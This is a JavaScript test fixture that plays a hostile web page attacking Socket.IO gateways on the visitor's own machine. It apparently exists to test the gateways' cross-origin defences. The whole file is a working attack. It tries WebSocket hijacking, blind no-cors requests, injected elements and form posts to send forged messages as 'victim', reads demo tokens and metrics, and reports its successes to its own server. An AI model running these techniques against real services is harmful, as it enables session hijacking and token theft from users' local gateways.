// Plays a hostile page that attacks the gateways on the machine of its visitor. It runs in pages, frames and workers, and reports
// what it achieved to its own server. The test prepends PLAN: {context, report, services, users}.
(async () => {
  const wins = [];
  const won = (what) => wins.push(what);
  const within = (ms, promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, ms))]);
  const attempt = async (promise) => {
    try {
      return await within(4000, promise);
    } catch {
      return undefined; // The server or the browser refused it.
    }
  };
  const tell = (state) =>
    fetch(PLAN.report, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ context: PLAN.context, state, wins }) });
  const say = (how) => `["send_message",{"recipientIds":["victim"],"message":"from ${PLAN.context} by ${how}"}]`;

  /** WebSocket, which CORS does not restrict. */
  const byWebSocket = (base) =>
    attempt(
      new Promise((resolve) => {
        const socket = new WebSocket(`${base.replace(/^http/, 'ws')}/socket.io/?EIO=4&transport=websocket`);
        socket.onopen = () => won(`a WebSocket to ${base}`);
        socket.onclose = socket.onerror = resolve;
        socket.onmessage = ({ data }) => {
          if (data[0] === '0') socket.send('40');
          else if (data.startsWith('40')) socket.send(`420${say('WebSocket')}`);
          else if (data.startsWith('430')) resolve();
        };
      }),
    );

  /** Polling, for a page that can read the answers. */
  const byPolling = async (base) => {
    const url = `${base}/socket.io/?EIO=4&transport=polling`;
    const opened = await attempt(fetch(url));
    const text = opened?.ok ? await attempt(opened.text()) : undefined;
    if (!text) return;
    won(`polling at ${base}`);
    const session = `${url}&sid=${JSON.parse(text.slice(1)).sid}`;
    const post = (body) => attempt(fetch(session, { method: 'POST', headers: { 'Content-Type': 'text/plain' }, body }));
    await post('40');
    await attempt(fetch(session).then((answer) => answer.text()));
    await post(`420${say('polling')}`);
  };

  /** Requests that browsers send without a preflight, and whose answers the page cannot read. */
  const blindly = async (base) => {
    const url = `${base}/socket.io/?EIO=4&transport=polling`;
    await attempt(fetch(url, { mode: 'no-cors' }));
    await attempt(fetch(`${url}&j=1`, { mode: 'no-cors', credentials: 'include' }));
    await attempt(fetch(url, { method: 'POST', mode: 'no-cors', body: `40\u001e420${say('blind POST')}` }));
    await attempt(fetch(PLAN.report.replace('/report', `/redirect?to=${encodeURIComponent(url)}`)).then((answer) => answer.ok && won(`a redirect to ${base}`)));
    if (typeof document === 'undefined') return;
    navigator.sendBeacon(url, '40');
    for (const [name, attribute] of [['img', 'src'], ['script', 'src'], ['link', 'href'], ['iframe', 'src']]) {
      const element = document.createElement(name);
      if (name === 'link') element.rel = 'stylesheet';
      element[attribute] = `${url}&by=${name}`;
      const done = new Promise((resolve) => (element.onload = element.onerror = resolve));
      document.body.append(element);
      await attempt(done);
    }
    const form = document.createElement('form');
    form.method = 'POST';
    form.enctype = 'text/plain';
    form.action = url;
    form.target = 'sink';
    const sink = document.createElement('iframe');
    sink.name = 'sink';
    const sent = new Promise((resolve) => (sink.onload = resolve));
    document.body.append(sink, form);
    form.submit();
    await attempt(sent);
  };

  const read = async (url) => {
    const answer = await attempt(fetch(url));
    const text = answer?.ok ? await attempt(answer.text()) : undefined;
    if (text) won(`what ${url} says`);
  };

  await tell('begun');
  for (const base of PLAN.services) {
    await byWebSocket(base);
    await byPolling(base);
    await blindly(base);
    await read(`${base}/metrics`);
    await read(`${base}/healthz`);
    await read(`${base}/demo/token?user=victim`);
  }
  for (const base of PLAN.users) await read(`${base}/demo/token?user=victim`);
  await tell('done');
})();
